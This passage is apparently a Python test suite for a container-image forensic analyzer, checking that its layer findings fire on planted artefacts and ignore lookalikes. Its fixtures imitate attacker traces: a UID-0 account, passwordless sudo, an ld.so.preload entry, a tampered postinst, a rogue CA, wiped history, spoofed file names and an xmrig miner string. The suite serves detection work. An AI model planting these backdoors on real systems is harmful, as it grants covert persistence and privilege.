"""Findings about layers: what each must hit, and what it must leave alone."""
import hashlib
import json
import os
import re
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from layer_truth import EXHIBIT
from test_diff import layout_of, tar_of

BASE_TIME, CREATED, LATER = 1700000000, 1704067200, 1710000000  # the image: 2024-01-01
CAP_NET_RAW = struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0).decode()
FOLDER = {"type": b"5", "mode": 0o755, "mtime": LATER}
EXE = {"mode": 0o755}


def read(path):
    with open(path, "rb") as f:
        return f.read()


def node(kind, **more):
    return dict({"type": kind}, **more)


def link(target):
    return {"type": b"2", "linkname": target}


ELF = read("corpus/fuzz/elf/static64")  # static and stripped, made by gcc and ld
TRUE = read("/bin/true")
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0"


def compiled(source_time, source):
    """What CPython 3.11 writes: magic, no flags, time and size of the source."""
    return b"\xa7\r\r\n" + struct.pack("<III", 0, source_time, len(source)) + b"\xe3code"


def packed():
    at = ELF.index(bytes(64), 64)
    return ELF[:at] + b"UPX!" + ELF[at + 4:]


def key():
    return subprocess.run(["openssl", "genpkey", "-algorithm", "ED25519"], check=True,
                          capture_output=True).stdout


def certificate(name):
    with tempfile.TemporaryDirectory() as d:
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:P-256", "-nodes", "-keyout", d + "/k", "-out",
                        d + "/c", "-subj", "/CN=" + name], check=True, capture_output=True)
        return read(d + "/c")


GOOD_KEY = key()
GOOD_CA, EVIL_CA = certificate("Good"), certificate("Evil")
PASSWD = "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/srv:/bin/sh\n" \
         "old:x:7:7::/:/usr/sbin/nologin\n"
SHADOW = "root:*:1:0:9:7:::\napp:!:1:0:9:7:::\n"

BASE = {
    "etc/passwd": PASSWD, "etc/shadow": SHADOW, "etc/group": "root:x:0:\nsudo:x:27:\napp:x:9:\n",
    "etc/sudoers": "root ALL=(ALL:ALL) ALL\n", "etc/nsswitch.conf": "passwd: files\n",
    "etc/hosts": "127.0.0.1 localhost\n", "etc/falco/falco.yaml": "rules: all\n",
    "etc/ssl/certs/ca-certificates.crt": GOOD_CA, "etc/mode": "m", "etc/app.conf": "a=1\n",
    "var/log/app.log": "line\n" * 40, "var/log/wtmp": "w" * 100, "root/.bash_history": "ls\n",
    "root/.zsh_history": "ls\n",
    "usr/bin/true": (EXE, TRUE), "usr/bin/ls": (EXE, b"\x7fELF ls"),
    "usr/bin/ping": (EXE, b"\x7fELF ping"), "usr/bin/plain": (EXE, b"#!/bin/sh\necho plain\n"),
    "usr/bin/owned": (EXE, b"as packaged"), "usr/lib/implanted.so": "not as packaged",
    "etc/owned.conf": "changed by the build",
    "var/lib/dpkg/status": "Package: tool\nStatus: install ok installed\nVersion: 1\n"
                           "Architecture: all\nConffiles:\n /etc/owned.conf " +
                           hashlib.md5(b"as packaged").hexdigest() + "\n",
    "var/lib/dpkg/info/tool.md5sums": hashlib.md5(b"as packaged").hexdigest() +
    "  usr/bin/owned\n" + hashlib.md5(b"good").hexdigest() + "  usr/lib/implanted.so\n",
    "var/lib/dpkg/info/tool.postinst": (EXE, b"#!/bin/sh\n"),
    "srv/app/site-packages/mod.py": "x = 1\n",
    "srv/app/run.sh": (EXE, b"#!/bin/sh\nexec app\n"),
}

# finding → what must make it: {path: data or (attributes, data)}
HITS = {
    "layer.ld-preload": {"etc/ld.so.preload": "/usr/lib/x.so\n"},
    "layer.library-path": {"etc/ld.so.conf.d/x.conf": "/tmp/lib\n"},
    "layer.library": {"usr/lib/libnew.so.1": "x"},
    "layer.authentication-module": {"lib/security/pam_x.so": "x", "etc/pam.d/sshd": "auth x\n",
                                    "lib/libnss_x.so.2": "x", "etc/nsswitch.conf": "passwd: x\n"},
    "layer.cron": {"etc/cron.d/job": "* * * * * root x\n", "var/spool/cron/crontabs/root": "@reboot x\n",
                   "etc/crontabs/root": "x\n"},
    "layer.at-job": {"var/spool/at/a0001": "x\n"},
    "layer.service": {"etc/systemd/system/x.service": "[Service]\n",
                      "usr/lib/systemd/system/x.timer": "[Timer]\n"},
    "layer.startup-script": {"etc/init.d/x": "#!/bin/sh\n", "etc/rc.local": "x\n",
                             "docker-entrypoint.sh": "x\n"},
    "layer.shell-start": {"etc/profile.d/x.sh": "x\n", "root/.bashrc": "x\n",
                          "etc/environment": "LD_PRELOAD=/x\n"},
    "layer.ssh-key": {"root/.ssh/authorized_keys": "ssh-ed25519 AAAA x\n"},
    "layer.ssh": {"etc/ssh/sshd_config": "PermitRootLogin yes\n"},
    "layer.account": {"etc/passwd": PASSWD + "new:x:1001:1001::/:/bin/bash\n"},
    "layer.root-account": {"etc/passwd": PASSWD + "svc:x:0:0::/root:/bin/sh\n"},
    "layer.account-without-password": {"etc/shadow": SHADOW.replace("app:!", "app:")},
    "layer.password-set": {"etc/shadow": SHADOW.replace("app:!", "app:$6$abcdefgh$" + "x" * 86)},
    "layer.system-account": {"etc/passwd": PASSWD + "mail:x:8:8::/:/usr/sbin/nologin\n"},
    "layer.powerful-group": {"etc/group": "root:x:0:\nsudo:x:27:app\napp:x:9:\n"},
    "layer.sudo": {"etc/sudoers.d/x": "app ALL=(root) /usr/bin/less\n"},
    "layer.sudo-without-password": {"etc/sudoers": "root ALL=(ALL:ALL) ALL\n"
                                    "app ALL=(ALL) NOPASSWD: ALL\n"},
    "layer.setuid": {"usr/bin/plain": ({"mode": 0o4755, "mtime": BASE_TIME},
                                       b"#!/bin/sh\necho plain\n"),
                     "usr/local/bin/su2": ({"mode": 0o2755}, b"x")},
    "layer.file-capability": {"usr/bin/ping": (
        {"mode": 0o755, "mtime": BASE_TIME,
         "pax_headers": {"SCHILY.xattr.security.capability": CAP_NET_RAW}}, b"\x7fELF ping")},
    "layer.world-writable": {"etc/mode": ({"mode": 0o666}, b"m")},
    "layer.executable-in-temporary-folder": {"tmp/x": (EXE, b"x"), "tmp/e": ELF + b"2", "dev/shm/y": (EXE, b"y"),
                                             "var/tmp/z": (EXE, b"z")},
    "layer.executable-in-var": {"var/cache/x": (EXE, b"xv"), "var/lib/y/z": (EXE, b"yv")},
    "layer.packed-executable": {"usr/local/bin/packed": (EXE, packed())},
    "layer.stripped-executable": {"usr/local/bin/static": (EXE, ELF)},
    "layer.masked-type": {"var/www/html/logo.png": ELF + b"1", "srv/p.jpg": b"#!/bin/sh\n"},
    "layer.needs-another-library": {"usr/bin/true": (EXE, TRUE.replace(b"libc.so.6", b"libx.so.6"))},
    "layer.new-executable": {"usr/local/bin/new": (EXE, b"#!/bin/sh\necho new\n")},
    "layer.changed-executable": {"usr/bin/plain": (EXE, b"#!/bin/sh\necho other\n")},
    "layer.copied-executable": {"usr/local/bin/list": (EXE, b"\x7fELF ls")},
    "layer.web-script": {"var/www/html/x.php": "<?php echo 1;\n",
                         "opt/tomcat/webapps/a/x.jsp": "<%= 1 %>\n"},
    "layer.web-configuration": {"var/www/html/.htaccess": "x\n", "etc/nginx/nginx.conf": "x\n"},
    "layer.interpreter-package": {"usr/lib/python3/site-packages/x.py": "x\n"},
    "layer.compiled-python": {"srv/app/site-packages/__pycache__/mod.cpython-311.pyc":
                              compiled(BASE_TIME, b"x = 1\n")},
    "layer.interpreter-start": {"usr/lib/python3/sitecustomize.py": "x\n",
                                "usr/lib/python3/dist-packages/x.pth": "import x\n"},
    "layer.hook": {"etc/apt/apt.conf.d/99x": "x\n", "srv/app/.git/hooks/pre-commit": "x\n"},
    "layer.certificate": {"etc/ssl/certs/ca-certificates.crt": GOOD_CA + EVIL_CA,
                          "usr/local/share/ca-certificates/x.crt": EVIL_CA},
    "layer.name-resolution": {"etc/hosts": "127.0.0.1 localhost\n10.0.0.1 registry\n"},
    "layer.security-control": {"etc/falco/falco.yaml": "rules: none\n"},
    "layer.credential": {"root/.kube/config": "x\n", "root/.aws/credentials": "x\n",
                         "root/.docker/config.json": "{}\n"},
    "layer.credential-content": {"srv/key": GOOD_KEY, "srv/notes": "key AKIAIOSFODNN7EXAMPLF here\n"},
    "layer.log-deleted": {"var/log/.wh.wtmp": ""},
    "layer.log-truncated": {"var/log/app.log": "line\n"},
    "layer.shell-history": {"root/.wh..bash_history": "", "root/.zsh_history": (link("/dev/null"), b""),
                            "srv/.bash_history": (link("/dev/null"), b"")},
    "layer.device-node": {"dev/disk": (node(b"4", devmajor=8, devminor=0), b"")},
    "layer.fifo-or-socket": {"tmp/fifo": (node(b"6"), b"")},
    "layer.kernel-module": {"lib/modules/x.ko": "x"},
    "layer.escape": {"srv/release_agent": "x\n"},
    "layer.hidden-name": {"tmp/.x": "x", "srv/...": "x", "opt/.tool": (EXE, b"t")},
    "layer.deceptive-name": {"usr/bin/ls ": "x", "srv/a\u202egnp.exe": "x", "srv/no\u00a0break": "x",
                             "srv/zero\u200bwidth": "x"},
    "layer.imitating-name": {"usr/bin/\u0440ing": "x", "usr/bin/p1ain": (EXE, b"p"),
                             "usr/sbin/[kworker]": (EXE, b"k")},
    "layer.time-copied": {"usr/bin/neighbour": ({"mtime": BASE_TIME}, b"n")},
    "layer.older-than-image": {"usr/local/bin/old": ({"mode": 0o755, "mtime": 1500000000,
                                                      "pax_headers": {}}, b"old")},
    "layer.time-lies": {"srv/lie": ({"mtime": 1600000000}, b"l")},
    "layer.future-time": {"srv/future": ({"mtime": 4102444800}, b"f")},
    "layer.made-and-removed": {"opt/empty": (FOLDER, b"")},
    "layer.package-state": {"var/lib/dpkg/diversions": "/a\n/b\n:\n"},
    "layer.package-script": {"var/lib/dpkg/info/tool.postinst": (EXE, b"#!/bin/sh\nevil\n")},
    "layer.package-source": {"etc/apt/sources.list.d/x.list": "deb http://x y z\n"},
    "layer.yara": {"srv/mine": "needle of the analyst\n"},
    "layer.package-database": {"var/lib/apk/nothing": ""},  # see the tests below
    "layer.base-differs-from-packages": {},
}
BASE["opt/empty"] = ({"type": b"5", "mode": 0o755, "mtime": BASE_TIME}, b"")
# Of these there are tests of their own: signs below, images in test_diff, test_layer_forms and
# test_layer_toc.
ELSEWHERE = {"layer.authentication-package", "layer.unpacked-times", "layer.table-of-contents", "layer.web-shell", "layer.reverse-shell", "layer.miner", "layer.tunnel",
             "layer.attack-tool", "layer.escape-tool", "layer.rootkit", "layer.hidden-payload",
             "layer.downloader", "layer.image-digest", "layer.image-incomplete",
             "layer.other-image", "layer.base-does-not-fit", "layer.odd-entry",
             "layer.gvisor-filestore", "layer.package-database",
             "layer.base-differs-from-packages"}

# finding → what looks like it and is nothing
MISSES = {
    "layer.ld-preload": {"srv/etc/ld.so.preload": "x"},
    "layer.library-path": {"etc/ld.so.cache": "x"},
    "layer.library": {"usr/lib/libnew.sox": "x"},
    "layer.authentication-module": {"etc/pam.conf.md": "x"},
    "layer.cron": {"srv/cron.d/x": "x"},
    "layer.at-job": {"var/spool/mail/x": "x"},
    "layer.service": {"srv/x.service": "x"},
    "layer.startup-script": {"srv/rc.local.md": "x"},
    "layer.shell-start": {"srv/bashrc.md": "x"},
    "layer.ssh-key": {"root/.ssh/known_hosts": "x"},
    "layer.ssh": {"srv/ssh_config.md": "x"},
    "layer.account": {"etc/passwd": PASSWD + "# a comment\n"},
    "layer.root-account": {"etc/passwd": PASSWD + "mail:x:8:8::/:/usr/sbin/nologin\n"},
    "layer.account-without-password": {"etc/shadow": SHADOW + "mail:*:1:0:9:7:::\n"},
    "layer.password-set": {"etc/shadow": SHADOW.replace("app:!", "app:!!")},
    "layer.system-account": {"etc/passwd": PASSWD},
    "layer.powerful-group": {"etc/group": "root:x:0:\nsudo:x:27:\napp:x:9:www\nwww:x:33:\n"},
    "layer.sudo": {"etc/sudoers.d/x": "# app ALL=(ALL) NOPASSWD: ALL\n"},
    "layer.sudo-without-password": {"etc/sudoers": "root ALL=(ALL:ALL) ALL\n# ALL\n"},
    "layer.setuid": {"usr/bin/plain": ({"mode": 0o755, "mtime": BASE_TIME},
                                       b"#!/bin/sh\necho plain\n")},
    "layer.file-capability": {"usr/bin/ping": (EXE, b"\x7fELF ping")},
    "layer.world-writable": {"etc/mode": ({"mode": 0o664}, b"m")},
    "layer.executable-in-temporary-folder": {"tmp/data": "x"},
    "layer.executable-in-var": {"var/cache/data": "x"},
    "layer.packed-executable": {"usr/local/bin/small": (EXE, ELF)},
    "layer.stripped-executable": {"usr/local/bin/dynamic": (EXE, TRUE + b" ")},
    "layer.masked-type": {"srv/logo.png": PNG, "srv/run.txt": "#!/bin/sh\n"},
    "layer.needs-another-library": {"usr/bin/true": (EXE, TRUE + b"appended")},
    "layer.new-executable": {"srv/data": "x"},
    "layer.changed-executable": {"srv/app/run.sh": ({"mode": 0o755, "mtime": LATER},
                                                    b"#!/bin/sh\nexec app\n")},
    "layer.copied-executable": {"srv/other": (EXE, b"not a copy")},
    "layer.web-script": {"srv/x.txt": "x", "var/www/html/x.txt": "x",
                         "usr/share/php/Helper.php": "<?php class Helper {}\n"},
    "layer.web-configuration": {"srv/nginx.md": "x"},
    "layer.interpreter-package": {"srv/x.py": "x"},
    "layer.compiled-python": {"srv/app/site-packages/__pycache__/mod.cpython-311.pyc":
                              compiled(BASE_TIME + 1, b"x = 1\n")},
    "layer.interpreter-start": {"srv/customize.py": "x"},
    "layer.hook": {"srv/app/.git/HEAD": "x"},
    "layer.certificate": {"etc/ssl/certs/ca-certificates.crt": GOOD_CA + b"\n" + GOOD_CA},
    "layer.name-resolution": {"etc/hosts": "127.0.0.1 localhost\n", "etc/hosts.deny": "# ALL: x\n"},
    "layer.security-control": {"etc/falco/falco.yaml": "rules: all\n"},
    "layer.credential": {"srv/kube.md": "x"},
    "layer.credential-content": {"srv/notes": "password=hunter2 and AKIA alone\n",
                                 "etc/ssh/ssh_host_x_key": GOOD_KEY},
    "layer.log-deleted": {"var/log/new.log": "x"},
    "layer.log-truncated": {"var/log/app.log": "line\n" * 50},
    "layer.shell-history": {"root/.bash_history": "ls\ncd\n"},
    "layer.device-node": {"srv/dev": "x"},
    "layer.fifo-or-socket": {"tmp/pipe": "x"},
    "layer.kernel-module": {"srv/x.ko.md": "x"},
    "layer.escape": {"srv/agent": "x"},
    "layer.hidden-name": {"srv/.config": "x"},
    "layer.deceptive-name": {"srv/gr\u00fc\u00dfe": "x", "srv/\u65e5\u672c": "x"},
    "layer.imitating-name": {"srv/\u043f\u0440\u0438\u0432\u0435\u0442": "x", "srv/v1.0": (EXE, b"v")},
    "layer.time-copied": {"usr/bin/fresh": "f"},
    "layer.older-than-image": {"srv/old": ({"mtime": 1500000001, "pax_headers": {}}, b"old")},
    "layer.time-lies": {"srv/true": "t", "srv/kept": ({"mtime": BASE_TIME}, b"a=1\n")},
    "layer.future-time": {"srv/now": "n"},
    "layer.made-and-removed": {"opt/empty/stays": "s"},
    "layer.package-state": {"var/lib/dpkg/lock": "x"},
    "layer.package-script": {"srv/tool.postinst": "x"},
    "layer.package-source": {"srv/sources.list": "x"},
    "layer.yara": {"srv/mine": "hay\n"},
}

YARA = 'rule needle { strings: $a = "needle of the analyst" condition: $a and ' \
       'filename == "mine" and filepath contains "/srv/" }\n'


def members(files, time):
    out = []
    for path, value in files.items():
        attributes, data = value if isinstance(value, tuple) else ({}, value)
        attributes = dict({"mtime": time}, **attributes)
        if time == LATER:
            attributes.setdefault("pax_headers", {})
            if attributes["pax_headers"] or attributes["mtime"] not in (1500000000, 1500000001):
                attributes["pax_headers"] = dict({"ctime": str(LATER) + ".5"},
                                                 **attributes["pax_headers"])
        out.append((path, attributes, data.encode() if isinstance(data, str) else data))
    return out


class Layers(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, self.dir)

    def analyze(self, base, layer, *options, more=None):
        package = os.path.join(self.dir, "package")
        shutil.rmtree(package, ignore_errors=True)
        os.mkdir(package)
        layout_of(package + "/base-image.tar", [tar_of(*members(base, BASE_TIME))])
        with open(package + "/pod-layer.tar", "wb") as f:
            f.write(tar_of(*members(layer, LATER)))
        if more:
            more(package)
        out = os.path.join(self.dir, "out")
        shutil.rmtree(out, ignore_errors=True)
        r = subprocess.run([EXHIBIT, "analyze", package, "-o", out, "--quiet", "--at",
                            "2026-11-24T00:00:00Z", *options], capture_output=True, timeout=120)
        self.assertIn(r.returncode, (0, 1), r.stderr)
        with open(out + "/findings.json") as f:
            return json.load(f)["findings"]

    @staticmethod
    def subjects(findings):
        """{(rule, path without the first slash)}"""
        return {(f["rule"], f["subject"].lstrip("/").replace("\\\\", "\\")) for f in findings}


class Evidence(Layers):
    """Findings about image and layer themselves: a hit and a miss of each."""
    base = {"etc/a": "one", "etc/b": "two"}

    def rules(self, layer, damage=None):
        def more(package):
            if not damage:
                return
            with tarfile.open(package + "/base-image.tar") as t:
                files = {m.name: t.extractfile(m).read() for m in t.getmembers()}
            layer_blob = max((n for n in files if "blobs/" in n), key=lambda n: len(files[n]))
            damage(files, layer_blob)
            with open(package + "/base-image.tar", "wb") as f:
                f.write(tar_of(*((n, {}, d) for n, d in files.items())))
        found = self.analyze(self.base, layer, more=more)
        for f in found:
            self.assertTrue(f["why"] and f["refute"], f["rule"])
        return {f["rule"] for f in found}

    def test_a_blob_that_is_not_what_its_digest_says(self):
        def spoil(files, blob):
            files[blob] = files[blob].replace(b"one", b"eno")
        self.assertIn("layer.image-digest", self.rules({"etc/new": "n"}, spoil))
        self.assertNotIn("layer.image-digest", self.rules({"etc/new": "n"}))

    def test_a_blob_that_is_missing(self):
        def drop(files, blob):
            del files[blob]
        self.assertIn("layer.image-incomplete", self.rules({"etc/new": "n"}, drop))
        self.assertNotIn("layer.image-incomplete", self.rules({"etc/new": "n"}))

    def test_a_layer_of_another_base(self):
        fits = {"etc/.wh.b": ""}
        self.assertIn("layer.base-does-not-fit", self.rules({"etc/.wh.never": ""}))
        self.assertNotIn("layer.base-does-not-fit", self.rules(fits))

    def test_an_entry_that_tools_read_differently(self):
        self.assertIn("layer.odd-entry", self.rules({"etc/.wh.": "", "etc/.wh.b": ""}))
        self.assertNotIn("layer.odd-entry", self.rules({"etc/.wh.b": ""}))

    def test_a_sandbox_that_keeps_its_changes_elsewhere(self):
        self.assertIn("layer.gvisor-filestore", self.rules({".gvisor.filestore.0a1b": "x"}))
        self.assertNotIn("layer.gvisor-filestore", self.rules({"gvisor.filestore": "x"}))


class Catalogue(Layers):
    def test_every_finding_has_a_hit_and_a_miss(self):
        with open("analyze/layer/findings.def") as f:
            ids = set(re.findall(r'^FINDING\(\w+, "([a-z.-]+)"', f.read(), re.M))
        self.assertEqual(ids - set(HITS) - ELSEWHERE, set())
        self.assertEqual(ids - set(MISSES) - ELSEWHERE, set())

    def shown(self, path):
        if "/.wh." in path:
            return path.replace("/.wh.", "/", 1)
        return path.replace("\u202e", "\\u{202E}").replace("\u200b", "\\u{200B}").replace(
            "\u00a0", "\\u{A0}")

    def test_hits(self):
        rules = os.path.join(self.dir, "mine.yar")
        with open(rules, "w") as f:
            f.write(YARA)
        # What writes one path twice goes into another layer.
        layers = []
        for rule, files in HITS.items():
            for path, value in files.items():
                for layer in layers:
                    if path not in layer["files"]:
                        break
                else:
                    layer = {"files": {}, "wanted": set()}
                    layers.append(layer)
                layer["files"][path] = value
                if rule not in ELSEWHERE:
                    layer["wanted"].add((rule, self.shown(path)))
        self.assertLess(len(layers), 6)
        for layer in layers:
            found = self.subjects(self.analyze(BASE, layer["files"], "--yara", rules))
            self.assertEqual(layer["wanted"] - found, set())

    def test_misses(self):
        rules = os.path.join(self.dir, "mine.yar")
        with open(rules, "w") as f:
            f.write(YARA)
        layers = []
        for rule, files in MISSES.items():
            for path, value in files.items():
                for layer in layers:
                    if path not in layer["files"]:
                        break
                else:
                    layer = {"files": {}, "unwanted": set()}
                    layers.append(layer)
                layer["files"][path] = value
                layer["unwanted"].add((rule, path))
        for layer in layers:
            found = self.subjects(self.analyze(BASE, layer["files"], "--yara", rules))
            self.assertEqual(layer["unwanted"] & found, set())

    def test_each_says_why_and_what_would_refute_it(self):
        findings = self.analyze(BASE, {"etc/ld.so.preload": "x\n", "srv/x": ({"mode": 0o4755}, b"x")})
        for f in findings:
            if f["rule"].startswith("layer."):
                self.assertTrue(f["why"] and f["refute"] and f["title"], f)
                self.assertTrue(f["spans"], f)

    def test_every_container_of_the_package_is_told(self):
        def other(package):
            with open(package + "/sidecar-layer.tar", "wb") as f:
                f.write(tar_of(*members({"etc/cron.d/second": "* * * * * root x\n"}, LATER)))
        found = self.subjects(self.analyze(BASE, {"etc/cron.d/first": "x\n"}, more=other))
        self.assertIn(("layer.cron", "etc/cron.d/first"), found)
        self.assertIn(("layer.cron", "etc/cron.d/second"), found)

    def test_the_line_of_the_account_is_cited(self):
        text = PASSWD + "svc:x:0:0::/root:/bin/sh\n"
        f = [f for f in self.analyze(BASE, {"etc/passwd": text})
             if f["rule"] == "layer.root-account"][0]
        span = f["spans"][0]
        self.assertEqual(text[span["offset"]:span["offset"] + span["length"]],
                         "svc:x:0:0::/root:/bin/sh")
        self.assertEqual(f["arguments"]["account"], "svc")


class Packages(Layers):
    def md5sums(self, files):
        return "".join(hashlib.md5(d.encode()).hexdigest() + f"  {p}\n" for p, d in files.items())

    def install(self, **more):
        """A layer in which dpkg installed "new", with what packages bring."""
        files = {"usr/bin/new": "new", "etc/cron.d/new": "0 3 * * * root new\n",
                 "usr/lib/libnew.so.1": "lib", "etc/init.d/new": "#!/bin/sh\n"}
        layer = {p: ({"mode": 0o4755 if p == "usr/bin/new" else 0o644, "mtime": 1650000000},
                     d.encode()) for p, d in files.items()}
        layer["var/lib/dpkg/status"] = BASE["var/lib/dpkg/status"] + (
            "\nPackage: new\nStatus: install ok installed\nVersion: 3\nArchitecture: all\n")
        layer["var/lib/dpkg/info/new.md5sums"] = self.md5sums(files)
        layer["var/lib/dpkg/info/new.list"] = "".join(f"/{p}\n" for p in files) + "/usr/bin/nw\n"
        layer["var/lib/dpkg/info/new.postinst"] = (EXE, b"#!/bin/sh\n")
        layer["usr/bin/nw"] = (link("new"), b"")
        layer["etc/rc2.d/S01new"] = (link("../init.d/new"), b"")
        layer.update(more)
        return layer

    def of_layer(self, findings):
        return {(r, s) for r, s in self.subjects(findings) if r.startswith("layer.") and
                r != "layer.base-differs-from-packages"}

    def test_an_installation_is_told_once(self):
        findings = self.analyze(BASE, self.install())
        self.assertEqual(self.of_layer(findings), {("layer.package-database", "dpkg")})
        told = [f for f in findings if f["rule"] == "layer.package-database"][0]
        self.assertEqual(told["arguments"]["installed"], "new 3")

    def test_what_hides_behind_an_installation_is_told(self):
        layer = self.install()
        layer["usr/bin/new"] = (EXE, b"another")
        layer["usr/bin/beside"] = (EXE, b"beside")
        layer["var/lib/dpkg/info/tool.postinst"] = (EXE, b"#!/bin/sh\nevil\n")
        layer["etc/ld.so.preload"] = "x\n"
        layer["usr/bin/owned"] = (EXE, b"trojan")
        found = self.of_layer(self.analyze(BASE, layer))
        for hit in (("layer.new-executable", "usr/bin/new"),
                    ("layer.new-executable", "usr/bin/beside"),
                    ("layer.package-script", "var/lib/dpkg/info/tool.postinst"),
                    ("layer.ld-preload", "etc/ld.so.preload"),
                    ("layer.changed-executable", "usr/bin/owned")):
            self.assertIn(hit, found)

    def test_a_trojan_names_the_package_of_the_file(self):
        f = [f for f in self.analyze(BASE, {"usr/bin/owned": (EXE, b"trojan")})
             if f["rule"] == "layer.changed-executable"][0]
        self.assertEqual(f["arguments"]["package"], "dpkg tool 1")

    def test_the_base_is_compared_with_its_own_packages(self):
        found = self.subjects(self.analyze(BASE, {"srv/x": "x"}))
        self.assertIn(("layer.base-differs-from-packages", "usr/lib/implanted.so"), found)
        for path in ("usr/bin/owned", "etc/owned.conf"):
            self.assertNotIn(("layer.base-differs-from-packages", path), found)

    def test_compiled_python_that_does_not_fit_its_source_is_told(self):
        path = "srv/app/site-packages/__pycache__/mod.cpython-311.pyc"
        for time, rule in ((BASE_TIME, "layer.compiled-python"),
                           (BASE_TIME + 5, "layer.interpreter-package")):
            found = self.of_layer(self.analyze(BASE, {path: compiled(time, b"x = 1\n")}))
            self.assertEqual(found, {(rule, path)})

    def test_a_bundle_made_of_installed_certificates_is_nothing(self):
        files = {"usr/share/ca-certificates/evil.crt": EVIL_CA.decode()}
        layer = {p: d for p, d in files.items()}
        layer["var/lib/dpkg/status"] = BASE["var/lib/dpkg/status"] + (
            "\nPackage: ca\nStatus: install ok installed\nVersion: 3\nArchitecture: all\n")
        layer["var/lib/dpkg/info/ca.md5sums"] = self.md5sums(files)
        layer["etc/ssl/certs/ca-certificates.crt"] = GOOD_CA + EVIL_CA
        found = self.of_layer(self.analyze(BASE, layer))
        self.assertEqual(found, {("layer.package-database", "dpkg")})


def unpacked(n, second=LATER):
    """Files as tar leaves them: older than the image, made one right after the other."""
    return {f"srv/app/lib/{i}.txt": ({"mtime": BASE_TIME - 1000 * i, "pax_headers":
                                      {"ctime": f"{second + i // 10}.{i % 10}"}}, b"%d" % i)
            for i in range(1, n + 1)}


class Benign(Layers):
    """What happens in containers every day, and what must be seen all the same."""

    def of_layer(self, findings):
        return {(r, s) for r, s in self.subjects(findings) if r.startswith("layer") and
                r != "layer.base-differs-from-packages"}

    def install(self, name, files, **more):
        """A layer in which dpkg installed a package."""
        layer = {p: ({"mode": 0o644, "mtime": 1650000000}, d.encode()) for p, d in files.items()}
        layer["var/lib/dpkg/status"] = BASE["var/lib/dpkg/status"] + (
            f"\nPackage: {name}\nStatus: install ok installed\nVersion: 3\nArchitecture: all\n")
        layer[f"var/lib/dpkg/info/{name}.md5sums"] = "".join(
            hashlib.md5(d.encode()).hexdigest() + f"  {p}\n" for p, d in files.items())
        layer.update(more)
        return layer

    def test_what_was_unpacked_is_told_once(self):
        lone = ({"mtime": 1600000000, "pax_headers": {"ctime": str(LATER + 900)}}, b"l")
        found = self.analyze(BASE, dict(unpacked(40), **{"srv/app/lie": lone}))
        self.assertEqual(self.of_layer(found), {("layer.unpacked-times", "srv/app/lib/1.txt"),
                                                ("layer.time-lies", "srv/app/lie")})
        told = [f for f in found if f["rule"] == "layer.unpacked-times"][0]["arguments"]
        self.assertEqual((told["files"], told["folder"]), ("40", "/srv/app/lib"))

    def test_a_few_old_files_are_told_each(self):
        found = self.of_layer(self.analyze(BASE, unpacked(15)))
        self.assertEqual(found, {("layer.time-lies", p) for p in unpacked(15)})

    def test_old_programs_of_a_layer_without_times_of_change(self):
        """As podman and docker write them: 1500000000 has no ctime in members()."""
        old = {"mode": 0o755, "mtime": 1500000000}
        for n, rule, count in ((20, "layer.unpacked-times", 1), (3, "layer.older-than-image", 3)):
            layer = {f"opt/jdk/bin/{i}": (old, b"%d" % i) for i in range(n)}
            found = [r for r, _ in self.of_layer(self.analyze(BASE, layer))]
            self.assertEqual([r for r in found if r != "layer.new-executable"], [rule] * count)

    def test_programs_that_came_with_one_folder_are_told_once(self):
        tree = {f"opt/jdk/{f}/{i:02}": (EXE, b"%d" % i) for i in range(30) for f in ("bin",)}
        tree.update({f"opt/jdk/lib/l{i}.so": (EXE, b"so%d" % i) for i in range(9)})
        findings = self.analyze(BASE, dict(tree, **{"usr/bin/alone": (EXE, b"alone")}))
        self.assertEqual(self.of_layer(findings), {
            ("layer.new-executable", "opt/jdk"), ("layer.library", "opt/jdk"),
            ("layer.new-executable", "usr/bin/alone")})
        told = [f for f in findings if f["subject"] == "/opt/jdk" and
                f["rule"] == "layer.new-executable"][0]
        self.assertEqual(told["arguments"]["files"], "30")
        self.assertTrue(told["arguments"]["names"].startswith("bin/00, bin/01, "))
        self.assertTrue(told["arguments"]["names"].endswith(" and 10 more"))
        self.assertTrue(told["spans"][15]["item"].endswith("opt/jdk/bin/15"))

    def test_a_few_programs_are_told_each(self):
        layer = {f"opt/kit/{i}": (EXE, b"%d" % i) for i in range(7)}
        self.assertEqual(self.of_layer(self.analyze(BASE, layer)),
                         {("layer.new-executable", p) for p in layer})

    def test_a_miner_among_many_programs_is_told(self):
        layer = {f"opt/kit/{i}": (EXE, b"%d" % i) for i in range(20)}
        layer["opt/kit/7"] = (EXE, b"stratum+tcp://pool:1 xmrig donate-level rx/0 randomx")
        self.assertEqual(self.of_layer(self.analyze(BASE, layer)),
                         {("layer.new-executable", "opt/kit"), ("layer.miner", "opt/kit/7")})

    def test_the_second_of_the_analysis_is_no_future(self):
        now = 1795478400  # 2026-11-24T00:00:00Z, as --at says
        layer = {f"srv/{n}": ({"mtime": now, "pax_headers": {"mtime": f"{now + n}.5"}}, b"x")
                 for n in (0, 1)}
        self.assertEqual(self.of_layer(self.analyze(BASE, layer)),
                         {("layer.future-time", "srv/1")})

    def test_a_module_that_a_package_enables(self):
        ini = {"usr/share/php/calendar.ini": "extension=calendar\n"}
        layer = self.install("php-calendar", ini)
        layer["etc/php/mods-available/calendar.ini"] = ini["usr/share/php/calendar.ini"]
        layer["etc/php/conf.d/20-calendar.ini"] = (link("/etc/php/mods-available/calendar.ini"), b"")
        self.assertEqual(self.of_layer(self.analyze(BASE, layer)),
                         {("layer.package-database", "dpkg")})
        layer["etc/php/mods-available/calendar.ini"] = "auto_prepend_file=/tmp/x\n"
        self.assertIn(("layer.interpreter-start", "etc/php/conf.d/20-calendar.ini"),
                      self.of_layer(self.analyze(BASE, layer)))

    def log_in(self, files, **more):
        """A layer in which a package with modules of PAM and NSS was installed."""
        base = dict(BASE, **{
            "etc/pam.d/common-password": "# managed\npassword\t[success=1 default=ignore]\tpam_unix.so "
            "obscure\npassword requisite pam_deny.so\npassword required pam_permit.so\n",
